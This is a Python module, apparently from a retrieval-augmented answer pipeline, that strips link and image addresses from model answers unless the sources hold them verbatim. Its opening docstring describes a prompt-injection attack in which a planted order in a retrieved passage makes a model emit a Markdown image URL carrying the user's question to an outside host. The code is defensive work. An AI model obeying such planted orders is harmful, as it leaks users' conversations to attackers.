"""Addresses in answers: a picture is fetched when it is shown, so an answer may send what was said to any host.

An order in a passage makes a model write ``![](https://host/?q=what the user asked)``; a chat window that shows
Markdown then sends it. So an answer shows only addresses that a passage, the question or a source name holds letter for
letter. It shows pictures only from passages that do not look like an attack themselves.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass
from itertools import zip_longest

from rag.answer.destinations import Destination, definitions, host_of, leads_away, level, links, tags

_MAY_LEAD = re.compile(r"\]\(|\]:|<[a-zA-Z!?/]|://|www\.", re.IGNORECASE)
_ADDRESS = re.compile(
    r"(?:https?:|ftp:)?//[^\s<>\"'`)\]]+|\bwww\.[^\s<>\"'`)\]]+|\]\(\s{0,9}<?([^\s<>)]+)"
    r"|\b(?:src|href)\s{0,9}=\s{0,9}[\"']?([^\s\"'>]+)",
    re.IGNORECASE,
)
_BARE = re.compile(
    r"\b(?:(?:https?|ftp)(?::|&colon;|&#0{0,9}58;|&#x0{0,9}3a;|\\:)"
    r"(?:/|\\/|\\\\|&sol;|&#0{0,9}47;|&#x0{0,9}2f;){2}|www\.)[^\s<>\"'`)\]]+",
    re.IGNORECASE,
)
_NEAR = 2000
_DEEPEST = 8
_OPEN = re.compile(
    r"!?\[[^\]\n]*(?:\](?:\([^)\n]*)?)?\Z|\]\([^)]{0,600}\Z|\]:\s{0,9}\S{0,600}\Z|<[a-zA-Z!?/][^>]*\Z"
    r"|\b(?:https?:|www\.)[^\s]*\Z|<(?:style|script)\b(?:(?!</(?:style|script)).)*\Z",
    re.IGNORECASE | re.DOTALL,
)


@dataclass(frozen=True, slots=True)
class ClearedText:
    """A text whose strange addresses are taken out, and how many those were."""

    text: str
    removed: int


class LinkGuard:
    """Takes addresses out of texts that the sources of an answer do not hold.

    Links may stand in `trusted` or in `quoted` texts, pictures in `trusted` ones alone. A link becomes its words and
    the name of its host, which no program follows.
    """

    def __init__(self, trusted: Iterable[str], quoted: Iterable[str]) -> None:
        self._trusted = tuple(trusted)
        self._pictures = _addresses(self._trusted)
        self._links = self._pictures | _addresses(quoted)

    def clear(self, text: str) -> ClearedText:
        """Return a text without strange addresses, as a renderer would make them of it."""
        if not _MAY_LEAD.search(text):
            return ClearedText(text, 0)
        removed = 0
        for found in (tags, definitions, links):
            text, count = self._without(text, found)
            removed += count
        kept = sum(_held(level(match[0]), self._links) for match in _BARE.finditer(text))
        text, count = _BARE.subn(self._bare, text)
        return ClearedText(text, removed + count - kept)

    def _without(self, text: str, found: Callable[[str], Iterator[Destination]]) -> tuple[str, int]:
        """Replace what is strange, the innermost first: a picture may stand in a link, and a link in a picture."""
        removed = 0
        for _ in range(_DEEPEST):
            strange = [place for place in found(text) if self._is_strange(text, place)]
            inner = [
                place for place, after in zip_longest(strange, strange[1:]) if after is None or after.start >= place.end
            ]
            if not inner:
                break
            text = _replaced(text, inner)
            removed += len(inner)
        return text, removed

    def _is_strange(self, text: str, place: Destination) -> bool:
        known = self._pictures if place.fetched else self._links
        plain = [level(address) for address in place.addresses]
        if all(_held(address, known) or not place.fetched and not leads_away(address) for address in plain):
            return False
        shown = text[place.start : place.end]
        return not any(shown in trusted for trusted in self._trusted)

    def _bare(self, match: re.Match[str]) -> str:
        if _held(level(match[0]), self._links):
            return match[0]
        return f"(address at {host_of(_with_scheme(level(match[0])))} removed)"


def clear_links(text: str, trusted: Iterable[str], quoted: Iterable[str]) -> ClearedText:
    """Take strange addresses out of one text; see `LinkGuard`."""
    return LinkGuard(trusted, quoted).clear(text)


def ends_in_link(text: str) -> bool:
    """Tell whether the end of an unfinished text may become a link, a picture or a tag."""
    return _OPEN.search(text[-_NEAR:]) is not None


def _replaced(text: str, places: Sequence[Destination]) -> str:
    """Return a text with the words and the hosts of places in their stead; they do not overlap."""
    parts: list[str] = []
    done = 0
    for place in places:
        told = f"(address at {host_of(level(place.addresses[0]))} removed)"
        parts += [text[done : place.start], f"{_plain_words(place.words)} {told}".strip()]
        done = place.end
    return "".join([*parts, text[done:]])


def _plain_words(words: str) -> str:
    """Return the words of a link, without what would itself be a link, a picture or a tag."""
    return re.sub(r"!(?=\[)|\](?=[\[(:])|<(?=\S)", " ", words) if words else ""


def _held(plain: str, known: frozenset[str]) -> bool:
    """Tell whether an address, or one it is the beginning of, is known: a quote may end inside, but can add nothing."""
    wanted = _trimmed(plain)
    return wanted in known or bool(wanted) and any(other.startswith(wanted) for other in known)


def _addresses(texts: Iterable[str]) -> frozenset[str]:
    found = (match for text in texts if _MAY_LEAD.search(text) or "//" in text for match in _ADDRESS.finditer(text))
    return frozenset(_trimmed(level(match[1] or match[2] or match[0])) for match in found)


def _trimmed(plain: str) -> str:
    return plain.rstrip(".,;:!?*_").rstrip("/").casefold()


def _with_scheme(plain: str) -> str:
    return plain if "://" in plain else f"https://{plain}"
